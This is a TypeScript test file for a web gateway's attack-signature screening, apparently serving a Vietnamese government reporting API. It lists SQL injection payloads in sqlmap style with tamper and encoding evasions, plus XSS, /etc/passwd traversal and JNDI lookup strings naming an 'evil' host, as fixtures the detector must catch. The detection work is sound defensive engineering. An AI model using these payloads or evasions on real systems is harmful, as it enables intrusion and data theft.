import { matchSignature, matchStrictValue, truncateInput } from './attack-signatures.js';
import { scanBody, scanHeaders, scanUrl } from './input-screening.js';
import type { RouteScreening } from './screening-policy.js';

/** The three payloads of issue 12 (point 9) that passed uncounted. */
const DISGUISED = ["G1'/**/AnD/**/'1'='1", "G1') oR ('x'='x", "G1'||(SeLeCt/**/chr(65))||'"];

/** How sqlmap's tamper scripts and hand-made evasions rewrite a payload. */
const TAMPERS: Record<string, (payload: string) => string> = {
  'as is': (p) => p,
  'url-encoded (charencode)': (p) => encodeURIComponent(p),
  'every byte url-encoded': (p) => [...Buffer.from(p)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join(''),
  'double url-encoded (chardoubleencode)': (p) => encodeURIComponent(encodeURIComponent(p)),
  'random case (randomcase)': (p) => [...p].map((c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase())).join(''),
  'spaces as comments (space2comment)': (p) => p.replace(/ /g, '/**/'),
  'spaces as comments with content (space2morecomment)': (p) => p.replace(/ /g, '/**_**/'),
  'spaces as %09': (p) => p.replace(/ /g, '%09'),
  'spaces as %0a': (p) => p.replace(/ /g, '%0a'),
  'spaces as %0c%0d': (p) => p.replace(/ /g, '%0c%0d'),
  'spaces as no-break spaces %a0': (p) => p.replace(/ /g, '%a0'),
  'spaces as several blanks (multiplespaces)': (p) => p.replace(/ /g, ' \t  '),
  'spaces as # comments and line feeds (space2hash)': (p) => p.replace(/ /g, '%23xyz%0a'),
  'spaces as -- comments and line feeds (space2dash)': (p) => p.replace(/ /g, '--xyz%0a'),
  'fullwidth apostrophe (apostrophemask)': (p) => p.replace(/'/g, '%EF%BC%87'),
  'IIS %u escapes (charunicodeencode)': (p) => p.replace(/'/g, '%u0027'),
  'percent before each letter (percentage)': (p) => p.replace(/[A-Za-z]/g, (c) => `%${c}`),
};

describe('attack signatures: normalised before matching', () => {
  for (const payload of DISGUISED) {
    for (const [name, tamper] of Object.entries(TAMPERS)) {
      it(`recognises ${payload} ${name}`, () => {
        expect(matchSignature(tamper(payload))).toBe('sql-injection');
      });
    }
  }

  it.each([
    ["x' OR '1'='1"],
    ["x' || '1'='1"], // symboliclogical
    ["x' AND 'a' LIKE 'a"], // equaltolike
    ["x'/*!50000AND*/'1'='1"], // versionedkeywords
    ["x%bf%27 OR 1=1-- "], // unmagicquotes
    ["1 UNION/**/ALL/**/SELECT password FROM users"],
    ['1 %55nion %53elect 1'],
    ["x' AND (SELECT 1 FROM pg_sleep(5))--"],
    ["x';DROP TABLE task_results--"],
    ["admin'--"],
    ["x') AND SLEEP(5)#"],
  ])('recognises the SQL injection %s', (payload) => {
    expect(matchSignature(payload)).toBe('sql-injection');
  });

  it.each([
    ['<script>alert(1)</script>', 'xss'],
    ['%253Cscript%253E', 'xss'],
    ['<ScRiPt/**/src=//evil>', 'xss'],
    ['<svg/onload=alert(1)>', 'xss'],
    ['javascript%3Aalert(1)', 'xss'],
    ['%EF%BC%9Cscript%EF%BC%9E', 'xss'],
    ['../../etc/passwd', 'path-traversal'],
    ['..%252f..%252fetc%252fpasswd', 'path-traversal'],
    ['${jndi:ldap://x}', 'code-injection'],
  ])('recognises %s as %s', (payload, kind) => {
    expect(matchSignature(payload)).toBe(kind);
  });

  it.each([
    "Đang dự thảo... / chờ ý kiến Bộ Tư pháp; tỷ lệ 'đạt' = 80% (select các đơn vị), xem mục 3.2 <ghi chú>",
    'Union of units; or 1 = 1 đơn vị',
    "Báo cáo số 12/BC-BKHCN ngày 05/3/2026 về tình hình 'chuyển đổi số' và 'Chính phủ số'",
    'Tỷ lệ hồ sơ trực tuyến toàn trình = 85% (so với kế hoạch 80%); đạt >= 70% và <= 90%',
    "Cơ quan 'A' hoặc 'B' = đồng chủ trì; Bộ 'Nội vụ' và \"Tư pháp\"",
    'Select các đơn vị trong danh sách; union các cơ quan từ tháng 3',
    'Mục #3 -- xem phụ lục II.1 (kèm theo)',
    'Thông báo số 03-TB/BCĐTW ngày 06/3/2025; Nghị quyết 57-NQ/TW',
    'Đảng ủy Bộ Khoa học và Công nghệ',
    'Ủy ban nhân dân tỉnh Bà Rịa - Vũng Tàu',
    'A.02 - Chỉ số kết quả, hiệu quả, chuyển biến thực chất và tác động',
    'Mức đóng góp của năng suất nhân tố tổng hợp (TFP) vào tăng trưởng kinh tế.',
    'Giảm 30% thủ tục; "cắt giảm" chi phí tuân thủ — đạt 100%',
    'Chương trình "Script" đào tạo; tài liệu hướng dẫn (document) số 5',
  ])('lets real Vietnamese text pass: %s', (text) => {
    expect(matchSignature(text)).toBeNull();
  });
});

describe('strict values (codes, dates, identifiers)', () => {
  it.each(['57_N02', 'A--B', '2026-Q2', '2026-06-30T08:00:00+07:00', '2026-06-30T08%3A00%3A00%2B07%3A00', '6f1c0e2a-3b4d-4e5f-8a9b-0c1d2e3f4a5b', '57 N02', 'Nhóm 2', 'dGVzdDox'])(
    'a value made of what strict formats use, or without metacharacters, is no probe: %s',
    (value) => expect(matchStrictValue(value)).toBeNull(),
  );

  it.each([
    ["O'Brien", 'sql-injection'],
    ['G1;', 'sql-injection'],
    ['G1%2527', 'sql-injection'],
    ['57_N02"', 'sql-injection'],
    ['100 ORDER BY 1-- -', 'sql-injection'],
    ['1=1', 'sql-injection'],
    ['<b>', 'xss'],
  ])('a value that fails its format with metacharacters is a probe: %s', (value, kind) => {
    expect(matchStrictValue(value)).toMatchObject({ kind });
  });
});

describe('scanUrl', () => {
  const tasks: RouteScreening = { freeTextQuery: new Set(['leadUnit']), freeTextBody: new Set() };

  it('answers a URL asked for again (from its memory) as it did the first time', () => {
    const probe = `/api/v1/task-results?leadUnit=${encodeURIComponent("x' OR '1'='1")}`;
    const clean = '/api/v1/task-results?limit=100';
    for (let time = 0; time < 3; time++) {
      expect(scanUrl(probe, tasks)).toMatchObject({ kind: 'sql-injection', where: 'query.leadUnit', field: 'leadUnit', input: "x' OR '1'='1" });
      expect(scanUrl(clean, tasks)).toBeNull();
    }
    expect(scanUrl('/api/v1/../etc/passwd')).toMatchObject({ kind: 'path-traversal', where: 'path' });
  });

  it('scans URLs too long to remember, every time', () => {
    const long = `/api/v1/task-results?leadUnit=${'a'.repeat(1200)}${encodeURIComponent('<script>')}`;
    expect(scanUrl(long, tasks)).toMatchObject({ kind: 'xss', field: 'leadUnit' });
    expect(scanUrl(long, tasks)).toMatchObject({ kind: 'xss', field: 'leadUnit' });
    expect(scanUrl(`/api/v1/task-results?leadUnit=${'a'.repeat(1200)}`, tasks)).toBeNull();
  });

  it.each([
    "Bộ Tài chính' AND 5678=5678 AND 'abc'='abc",
    'Bộ Tài chính) AND 5678=5678 AND (1234=1234',
    "Bộ Tài chính' AND (SELECT 1234 FROM (SELECT(SLEEP(5)))abc) AND 'x'='x",
    "Bộ Tài chính' UNION ALL SELECT NULL,NULL-- -",
    "Bộ Tài chính' ORDER BY 1-- -",
    "Bộ Tài chính' AND EXTRACTVALUE(1234,CONCAT(0x5c,0x71))-- -",
    "Bộ Tài chính';SELECT PG_SLEEP(5)--",
  ])('recognises sqlmap payloads in a name filter: %s', (payload) => {
    const hit = scanUrl(`/api/v1/task-results?leadUnit=${encodeURIComponent(payload).replace(/%20/g, '+')}`, tasks);
    expect(hit).toMatchObject({ kind: 'sql-injection', field: 'leadUnit', input: payload });
  });

  it('names the query parameter, and judges each parameter by its kind', () => {
    for (const payload of DISGUISED) {
      expect(scanUrl(`/api/v1/task-results?limit=10&taskGroupCode=${encodeURIComponent(payload)}`, tasks)).toMatchObject({ kind: 'sql-injection', field: 'taskGroupCode', input: payload });
    }
    // `+` for a space, as forms encode it.
    expect(scanUrl("/api/v1/task-results?taskGroupCode=G1'+AnD+'1'='1", tasks)).toMatchObject({ field: 'taskGroupCode', problem: 'matches a sql-injection signature' });
    // A strict parameter with a quote is a probe; a name filter may hold quotes.
    expect(scanUrl(`/api/v1/task-results?taskGroupCode=${encodeURIComponent("N'02")}`, tasks)).toMatchObject({ field: 'taskGroupCode', problem: 'does not fit its format and carries SQL metacharacters' });
    expect(scanUrl(`/api/v1/task-results?leadUnit=${encodeURIComponent("Sở 'Nội vụ'")}`, tasks)).toBeNull();
    expect(scanUrl(`/api/v1/task-results?leadUnit=${encodeURIComponent('Bộ Tài chính')}&updatedSince=2026-06-30T08:00:00%2B07:00&cursor=djI6MTI&limit=500`, tasks)).toBeNull();
  });
});

describe('scanBody', () => {
  const freeText = new Set(['taskName', 'description', 'coordinatingUnits']);
  const TITLES = ['Hướng dẫn về thẻ <script> và iframe trên Cổng thông tin điện tử', 'Thực hiện Kết luận ../../KL-TW về sắp xếp bộ máy'];

  it('leaves free-text fields alone: they are data', () => {
    for (const title of TITLES) {
      expect(scanBody({ taskCode: 'T1', taskName: title, description: title, coordinatingUnits: [title] }, freeText)).toBeNull();
    }
  });

  it('screens every other field and every key, and names the field with the input', () => {
    expect(scanBody({ taskCode: 'T1', taskGroupCode: TITLES[0] }, freeText)).toMatchObject({ kind: 'xss', where: 'body.taskGroupCode', field: 'taskGroupCode', input: TITLES[0] });
    expect(scanBody({ taskCode: 'T1', "x' OR '1'='1": 1 }, freeText)).toMatchObject({ kind: 'sql-injection', field: "x' OR '1'='1" });
    // Free text only when it holds text: an object in its place is no validated free text.
    expect(scanBody({ description: { nested: '<script>' } }, freeText)).toMatchObject({ field: 'description.nested' });
    // Without a route's declaration, nothing is free text.
    expect(scanBody({ taskName: TITLES[1] })).toMatchObject({ kind: 'path-traversal', field: 'taskName' });
  });

  it('keeps at most 200 characters of the input for the evidence', () => {
    const long = `${'ắ'.repeat(300)}<script>`;
    const hit = scanBody({ taskGroupCode: long }, freeText)!;
    expect(hit.input).toBe(`${'ắ'.repeat(200)}…`);
    expect(truncateInput('ngắn')).toBe('ngắn');
  });
});

describe('scanHeaders', () => {
  it('screens headers the gateway has no use for, by signature, and remembers clean values', () => {
    const browser = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36';
    for (let time = 0; time < 2; time++) {
      expect(scanHeaders({ 'user-agent': browser, referer: 'https://cong.gov.vn/tim-kiem?q=thẻ+script&page=2' })).toBeNull();
      expect(scanHeaders({ 'user-agent': "sqlmap' AND '1'='1" })).toMatchObject({ kind: 'sql-injection', where: 'header.user-agent', field: 'user-agent', input: "sqlmap' AND '1'='1" });
    }
    expect(scanHeaders({ 'x-forwarded-for': '${jndi:ldap://evil/a}' })).toMatchObject({ kind: 'code-injection', field: 'x-forwarded-for' });
    // Headers the gateway parses itself are left to their parsers.
    expect(scanHeaders({ 'if-match': "'1' OR '1'='1", 'x-file-name': '<script>.pdf' })).toBeNull();
  });
});
